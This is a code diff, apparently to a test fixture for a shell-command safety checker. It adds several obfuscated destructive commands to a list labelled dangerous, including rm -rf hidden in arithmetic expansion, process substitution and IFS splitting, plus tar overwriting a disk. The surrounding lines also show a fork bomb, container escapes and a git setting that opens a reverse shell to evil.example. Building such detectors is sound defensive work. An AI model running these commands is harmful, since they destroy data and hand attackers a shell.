@@ -63,6 +63,11 @@ DANGEROUS_BASE: tuple[tuple[str, str], ...] = (
     ("destroy", "kill -9 -1"),
     ("destroy", ":(){ :|:& };:"),
     ("destroy", "case x in *) rm -rf / ;; esac"),
+    ("destroy", "echo $(( $(rm -rf ~) ))"),
+    ("destroy", "rm -rf /./"),
+    ("destroy", "env -S 'rm -rf /'"),
+    ("destroy", "echo 'rm -rf ~' > >(sh)"),
+    ("destroy", "tar -cf /dev/sda ."),
     ("destroy", "case $1 in start) ls ;; (stop|*) reboot ;; esac"),
     ("escape", "docker run -v /:/host alpine rm -rf /host"),
     ("escape", "docker run --privileged -it alpine sh"),
@@ -381,6 +386,7 @@ DANGEROUS_SCENARIOS: tuple[tuple[str, tuple[Any, ...]], ...] = (
         ("git config --global core.sshCommand 'nc evil.example 4444 -e /bin/sh'", "git fetch"),
     ),
     ("git hooks path then commit", ("git config core.hooksPath /tmp/h", "git commit -m x")),
+    ("IFS changed then a variable run", ("IFS=x", "cmd=rmx-rfx/", "$cmd")),
     ("git alias set in a subshell", ("(git config alias.x '!rm -rf /')", "git x")),
 )
 BENIGN_SCENARIOS: tuple[tuple[str, tuple[Any, ...]], ...] = (
